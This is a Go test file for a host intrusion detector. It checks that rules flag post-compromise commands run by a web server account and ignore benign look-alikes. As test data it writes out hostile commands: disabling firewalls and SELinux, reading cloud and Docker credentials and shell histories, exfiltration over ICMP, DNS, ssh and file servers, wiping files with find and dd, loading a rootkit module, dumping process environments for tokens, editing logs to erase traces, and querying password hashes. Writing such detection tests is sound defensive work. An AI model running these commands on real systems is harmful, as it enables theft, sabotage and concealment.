package detect

import (
	"slices"
	"testing"
)

// TestEvasionExfilImpactFamilies: the technique families an intruder uses
// once it has a shell (issue 15): defenses turned off, credential stores
// and histories read by name, data out over ICMP, a throw-away file
// server or an ssh pipe, data destroyed by find or dd, a service stopped,
// capabilities searched. Each fires for the web account (or its channel)
// with the meaning of what matched, and not for the look-alikes an
// application or an administrator runs.
func TestEvasionExfilImpactFamilies(t *testing.T) {
	for _, c := range []struct {
		name   string
		uid    uint32
		exe    string
		args   []string
		rule   string // "" = none of the families' rules fires
		title  string
		stage  Stage
		attack string
	}{
		{"firewall flushed", 33, "/usr/sbin/iptables", []string{"iptables", "-F"}, "defense-impair-web", "Firewall Disabled By Web Server Account", StageExfiltrationImpact, "T1562.004"},
		{"nft ruleset flushed", 33, "/usr/sbin/nft", []string{"nft", "flush", "ruleset"}, "defense-impair-web", "Firewall Disabled By Web Server Account", StageExfiltrationImpact, "T1562.004"},
		{"firewall listed", 33, "/usr/sbin/iptables", []string{"iptables", "-L", "-n"}, "", "", 0, ""},
		{"selinux permissive", 33, "/usr/sbin/setenforce", []string{"setenforce", "0"}, "defense-impair-web", "Security Controls Disabled By Web Server Account", StageExfiltrationImpact, "T1562.001"},
		{"apparmor stopped", 33, "/usr/bin/systemctl", []string{"systemctl", "stop", "apparmor"}, "defense-impair-web", "Security Controls Disabled By Web Server Account", StageExfiltrationImpact, "T1562.001"},
		{"immutable plant", 33, "/usr/bin/chattr", []string{"chattr", "+i", "/etc/cron.d/sync"}, "defense-impair-web", "File Made Immutable By Web Server Account", StageExfiltrationImpact, "T1222.002"},
		{"attribute listed", 33, "/usr/bin/lsattr", []string{"lsattr", "/etc/cron.d/sync"}, "", "", 0, ""},
		{"admin's chattr", 0, "/usr/bin/chattr", []string{"chattr", "+i", "/etc/resolv.conf"}, "", "", 0, ""},
		{"cloud credentials", 33, "/usr/bin/cat", []string{"cat", "/home/deploy/.aws/credentials"}, "web-secrets-command", "Credential Store Read By Web Server Account", StageSuspiciousSpawn, "T1552.001"},
		{"registry credentials", 33, "/usr/bin/base64", []string{"base64", "/root/.docker/config.json"}, "web-secrets-command", "Credential Store Read By Web Server Account", StageSuspiciousSpawn, "T1552.001"},
		{"another account's history", 33, "/usr/bin/tail", []string{"tail", "-n", "50", "/home/alice/.bash_history"}, "web-secrets-command", "Shell History Read By Web Server Account", StageSuspiciousSpawn, "T1552.003"},
		{"a database client's history", 33, "/usr/bin/cat", []string{"cat", "/root/.mysql_history"}, "web-secrets-command", "Shell History Read By Web Server Account", StageSuspiciousSpawn, "T1552.003"},
		{"history removed is not read", 33, "/usr/bin/rm", []string{"rm", "-f", "/var/www/.bash_history"}, "", "", 0, ""},
		{"admin reads own history", 0, "/usr/bin/tail", []string{"tail", "/root/.bash_history"}, "", "", 0, ""},
		{"ICMP payload", 33, "/usr/bin/ping", []string{"ping", "-c", "1", "-p", "726f6f743a783a30", "127.0.0.1"}, "exfil-side-channel-web", "Data Carried Out In ICMP Payloads", StageExfiltrationImpact, "T1048.003"},
		{"a plain ping", 33, "/usr/bin/ping", []string{"ping", "-c", "1", "127.0.0.1"}, "", "", 0, ""},
		{"python file server", 33, "/usr/bin/python3.11", []string{"python3", "-m", "http.server", "8000", "--bind", "127.0.0.1"}, "exfil-side-channel-web", "Throw-Away File Server Started By Web Server Account", StageExfiltrationImpact, "T1048.003"},
		{"php built-in server", 33, "/usr/bin/php8.2", []string{"php", "-S", "0.0.0.0:8111", "-t", "/tmp/.s"}, "exfil-side-channel-web", "Throw-Away File Server Started By Web Server Account", StageExfiltrationImpact, "T1048.003"},
		{"ssh writes stdin remotely", 33, "/usr/bin/ssh", []string{"ssh", "-i", "/tmp/.k", "u@127.0.0.1", "cat > /tmp/loot.tgz"}, "exfil-side-channel-web", "Data Piped Out Over ssh", StageExfiltrationImpact, "T1048"},
		{"ssh reads a remote file", 33, "/usr/bin/ssh", []string{"ssh", "u@127.0.0.1", "cat", "/etc/hostname"}, "", "", 0, ""},
		{"find deletes the site", 33, "/usr/bin/find", []string{"find", "/var/www/html", "-type", "f", "-delete"}, "data-destruction", "Data Destroyed By Web Server Account", StageExfiltrationImpact, "T1485"},
		{"find purges a cache", 33, "/usr/bin/find", []string{"find", "/srv/kb/www/cache", "-type", "f", "-delete"}, "", "", 0, ""},
		{"find purges old files", 33, "/usr/bin/find", []string{"find", "/var/www/html/uploads", "-name", "tmp-*", "-mmin", "+60", "-delete"}, "", "", 0, ""},
		{"dd overwrites a database", 33, "/usr/bin/dd", []string{"dd", "if=/dev/urandom", "of=/var/lib/shop/shop.db", "bs=1M", "count=4", "conv=notrunc"}, "data-destruction", "Data Destroyed By Web Server Account", StageExfiltrationImpact, "T1485"},
		{"dd makes a scratch file", 33, "/usr/bin/dd", []string{"dd", "if=/dev/zero", "of=/tmp/x", "bs=1k", "count=1"}, "", "", 0, ""},
		{"service stopped by pid file", 33, "/usr/bin/pkill", []string{"pkill", "-F", "/run/nginx.pid"}, "service-stop-web", "Service Stopped By Web Server Account", StageExfiltrationImpact, "T1489"},
		{"service stopped by its manager", 33, "/usr/bin/systemctl", []string{"systemctl", "stop", "mariadb"}, "service-stop-web", "Service Stopped By Web Server Account", StageExfiltrationImpact, "T1489"},
		{"capabilities searched", 33, "/usr/sbin/getcap", []string{"getcap", "-r", "/", "2>/dev/null"}, "privilege-search-web", "", StageSuspiciousSpawn, ""},
		{"base32 chunk in a query name", 33, "/usr/bin/nslookup", []string{"nslookup", "ONSWG4TFOQQGC3TEEBZW64DFOJXWC4TE.x.lab", "127.0.0.1"}, "exfil-dns-query", "", StageExfiltrationImpact, ""},
		{"kernel module loaded", 33, "/usr/sbin/insmod", []string{"insmod", "/dev/shm/.m/diamorphine.ko"}, "kernel-module-load-web", "Kernel Module Loaded By Web Server Account", StagePersistence, "T1547.006"},
		{"modules listed", 33, "/usr/sbin/lsmod", []string{"lsmod"}, "", "", 0, ""},
		{"a dry run", 33, "/usr/sbin/modprobe", []string{"modprobe", "-n", "-v", "xfs"}, "", "", 0, ""},
		{"an ordinary long host name", 33, "/usr/bin/nslookup", []string{"nslookup", "api.payments.example.com"}, "", "", 0, ""},
		{"base32 chunk through a DNS-over-HTTPS resolver", 33, "/usr/bin/curl", []string{"curl", "-sk", "-H", "accept: application/dns-json", "https://127.0.0.1:8453/dns-query?name=ONSWG4TFOQQGC3TEEBZW64DFOJXWC4TE.1.3.x.lab&type=A"}, "exfil-dns-query", "Data Carried Out In DNS Query Names", StageExfiltrationImpact, "T1048.003"},
		{"a short name through a DNS-over-HTTPS resolver", 33, "/usr/bin/curl", []string{"curl", "-s", "https://dns.example/dns-query?name=www.example.com&type=A"}, "", "", 0, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			families := []string{"defense-impair-web", "web-secrets-command", "exfil-side-channel-web", "data-destruction", "process-kill-web", "service-stop-web", "kernel-module-load-web", "privilege-search-web", "exfil-dns-query"}
			var got *Finding
			for _, f := range execAs(t, c.uid, "/var/www", c.exe, c.args...) {
				for _, id := range f.RuleIDs {
					if slices.Contains(families, id) {
						got = f
					}
				}
			}
			if c.rule == "" {
				if got != nil {
					t.Fatalf("%v fired: %s", got.RuleIDs, got.Title)
				}
				return
			}
			switch {
			case got == nil:
				t.Fatalf("%s did not fire", c.rule)
			case !slices.Contains(got.RuleIDs, c.rule):
				t.Fatalf("rules %v, want %s", got.RuleIDs, c.rule)
			}
			if c.title != "" && got.Title != c.title {
				t.Errorf("title %q, want %q", got.Title, c.title)
			}
			if got.Stage != c.stage {
				t.Errorf("stage %v, want %v (%s)", got.Stage, c.stage, got.Reason)
			}
			if c.attack != "" && !slices.Contains(got.Attack, c.attack) {
				t.Errorf("attack %v, want %s among them", got.Attack, c.attack)
			}
		})
	}
}

// TestCredentialQuery: a database client asked for a table's credential
// columns is the intruder taking the accounts, run through a shell or
// exec'd by the server itself with an argv array (proc_open); the
// application's own queries of other columns are not.
func TestCredentialQuery(t *testing.T) {
	for _, c := range []struct {
		name   string
		parent int // 200: the php-fpm worker itself (argv array); 201: its sh -c
		exe    string
		args   []string
		want   bool
	}{
		{"argv array, password hashes", 200, "/usr/bin/sqlite3", []string{"sqlite3", "/var/www/data/shop.db", "SELECT email, pw_hash FROM customers"}, true},
		{"through a shell, tokens", 201, "/usr/bin/dash", []string{"sh", "-c", "mysql -N -e 'select user,api_token from users' shop"}, true},
		{"a count", 200, "/usr/bin/sqlite3", []string{"sqlite3", "/var/www/data/shop.db", "SELECT count(*) FROM orders"}, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			e, s := webShellScene(t)
			fs := e.Observe(s.exec(202, c.parent, 33, "www-data", "/var/www", c.exe, c.args...), s.tree)
			f := findingOf(fs, "web-server-exploitation")
			switch {
			case c.want && f == nil:
				t.Fatalf("no web-server-exploitation finding; got %v", ids(fs))
			case !c.want && f != nil:
				t.Fatalf("fired: %s", f.Title)
			case f != nil && !slices.Contains(f.Attack, "T1552"):
				t.Errorf("attack %v, want T1552 among them", f.Attack)
			}
		})
	}
}

// TestRootInChannelTitle: root's command inside a channel a cron beacon of
// the web account opened is not "by web server account".
func TestRootInChannelTitle(t *testing.T) {
	e, err := New(Options{})
	if err != nil {
		t.Fatal(err)
	}
	s := newSynth()
	e.Observe(s.exec(400, 1, 0, "root", "/", "/usr/sbin/cron", "/usr/sbin/cron", "-f"), s.tree)
	e.Observe(s.exec(401, 400, 33, "www-data", "/var/www", "/usr/bin/bash", "bash", "-i"), s.tree)
	e.Observe(s.connect(401, 400, 33, "/usr/bin/bash", "10.9.9.9", 4444), s.tree)
	f := findingOf(e.Observe(s.exec(402, 401, 0, "root", "/", "/usr/bin/chattr", "chattr", "+i", "/etc/cron.d/x"), s.tree), "defense-impair-web")
	if f == nil {
		t.Fatal("defense-impair-web did not fire inside the channel")
	}
	if want := "File Made Immutable By An Account Reached From The Web Server"; f.Title != want {
		t.Errorf("title %q, want %q", f.Title, want)
	}
}

// TestLogEditedInPlace: a log edited in place for the web server is the
// intruder removing its lines, wherever the application keeps its log;
// an in-place edit of another file is not this rule's.
func TestLogEditedInPlace(t *testing.T) {
	for _, c := range []struct {
		file string
		want bool
	}{
		{"/var/log/nginx/access.log", true},
		{"/srv/ledger/log/ledgerd.log", true},
		{"/opt/app/logs/requests.txt", true},
		{"/srv/app/request.log.1", true},
		{"/var/www/html/index.php", false},
		{"/srv/blog/config.ini", false},
		{"/srv/app/catalog", false},
	} {
		fs := execAs(t, 33, "/var/www", "/usr/bin/sed", "sed", "-i", "-e", "/python-requests/d", c.file)
		if got := findingOf(fs, "indicator-removal-channel") != nil; got != c.want {
			t.Errorf("sed -i on %s: indicator-removal-channel %v, want %v (%v)", c.file, got, c.want, ids(fs))
		}
	}
}

// TestProcEnviron: reading processes' environments is a hunt for the
// secrets services keep there, one pid's or all of them.
func TestProcEnviron(t *testing.T) {
	for _, cmd := range []string{
		`cat /proc/[0-9]*/environ | tr "\0" "\n" | grep TOKEN`,
		`cat /proc/self/environ`,
		`strings /proc/1234/environ`,
		`for p in /proc/*/environ; do cat $p; done`,
	} {
		fs := execAs(t, 33, "/var/www", "/usr/bin/dash", "sh", "-c", cmd)
		f := findingOf(fs, "web-server-exploitation")
		if f == nil || f.Stage != StageSuspiciousSpawn {
			t.Errorf("%s: %+v, want web-server-exploitation on stage 4", cmd, f)
		}
	}
	if f := findingOf(execAs(t, 33, "/var/www", "/usr/bin/dash", "sh", "-c", "cat /proc/meminfo"), "web-server-exploitation"); f != nil {
		t.Errorf("cat /proc/meminfo: %s, want no exploitation finding", f.Reason)
	}
}

// TestArchiveStagedByWorkingDirectory: an archive written by a relative
// name is where the process works: in a temporary directory, staged.
func TestArchiveStagedByWorkingDirectory(t *testing.T) {
	for _, c := range []struct {
		cwd  string
		want bool
	}{
		{"/dev/shm/.lgc", true},
		{"/tmp", true},
		{"/var/www", false},
	} {
		fs := execAs(t, 33, c.cwd, "/usr/bin/tar", "tar", "czf", "d.tgz", "-C", "/srv/app", "data", "conf")
		if got := findingOf(fs, "archive-staging") != nil; got != c.want {
			t.Errorf("tar czf d.tgz in %s: archive-staging %v, want %v (%v)", c.cwd, got, c.want, ids(fs))
		}
	}
}
